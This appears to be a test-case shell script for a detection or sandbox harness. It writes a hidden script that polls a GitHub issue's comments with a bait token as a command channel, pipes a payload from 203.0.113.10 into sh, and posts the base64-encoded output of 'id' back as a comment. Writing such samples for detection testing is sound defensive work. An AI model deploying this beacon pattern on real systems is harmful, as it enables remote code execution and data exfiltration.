#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.b.sh <<'END'
api=http://api.github.com:8080/repos/bait/notes/issues/7/comments
for n in 1 2 3 4 5 6; do
    order=$(curl -s -H 'Authorization: token ghp_bait' "$api?since=$n")
    case $order in ok*) out=$(curl -s http://203.0.113.10/payload.sh | sh; id | base64 -w0);; esac
    curl -s -X POST -H 'Authorization: token ghp_bait' -d "{\"body\":\"$out\"}" $api >/dev/null
    sleep 0.$((RANDOM % 9))
done
END
bash /tmp/.b.sh
test -e /tmp/reached
took_place
